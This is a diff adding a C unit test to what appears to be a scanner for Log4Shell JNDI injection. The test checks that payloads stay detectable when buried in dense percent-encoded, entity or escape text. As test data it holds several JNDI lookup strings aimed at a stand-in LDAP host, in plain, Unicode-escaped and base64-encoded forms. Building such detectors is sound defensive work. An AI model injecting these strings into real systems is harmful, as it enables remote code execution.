@@ -77,11 +77,59 @@ static void lines_are_counted(void **state)
     buf_done(&b);
 }
 
+/* Behind false openers that stand so densely that pieces are decoded: what needs no decoding of
+ * escapes is found in the piece all the same, and no border between pieces hides anything. */
+static void dense_text_hides_nothing(void **state)
+{
+    (void)state;
+    static const char *const dense[] = {"%25", "\\u00", "&amp;", "%%32%34"};
+    char many[1100] = "\\"; /* of u, as Java takes them */
+    memset(many + 1, 'u', 1000);
+    memcpy(many + 1001, "0024{jndi:x}", 13);
+    const char *const payloads[] = {many,
+                                    "JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0=",
+                                    "YSR7am5kaTpsZGFwOi8veC5leGFtcGxlL2F9",
+                                    "YWIke2puZGk6bGRhcDovL3guZXhhbXBsZS9hfQ",
+                                    "H4sIAAAAAAAC/6tWykrMy8hMyU8BAAAA",
+                                    "${jndi:ldap://x.example/a}",
+                                    "\\u0024\\u007bjndi:ldap://x.example/a}"};
+    struct prefilter f;
+    struct line_search s;
+    struct buf b;
+    size_t hits = 0, used = 0;
+    buf_init(&b, MIB(1));
+    prefilter_init(&f);
+    assert_ok(line_search_init(&s, &f));
+    s.hit = count;
+    s.ctx = &hits;
+    s.no_evaluation = true;
+    for (size_t d = 0; d < ARRAY_LEN(dense); d++) {
+        for (size_t p = 0; p < ARRAY_LEN(payloads); p++) {
+            for (size_t before = 0; before < 9000; before += 211) {
+                buf_clear(&b);
+                while (b.n < before)
+                    (void)buf_add_str(&b, dense[d]);
+                (void)buf_addf(&b, " %s ", payloads[p]);
+                for (size_t k = 0; k < 100; k++)
+                    (void)buf_add_str(&b, dense[d]);
+                line_search_begin(&s);
+                s.openers = 0;
+                assert_ok(line_search_block(&s, buf_slice(&b), false, &used));
+                if (s.openers == 0)
+                    fail_msg("%s behind %zu bytes of %s", payloads[p], before, dense[d]);
+            }
+        }
+    }
+    line_search_done(&s);
+    buf_done(&b);
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(a_long_line_is_linear),
         cmocka_unit_test(lines_are_counted),
+        cmocka_unit_test(dense_text_hides_nothing),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
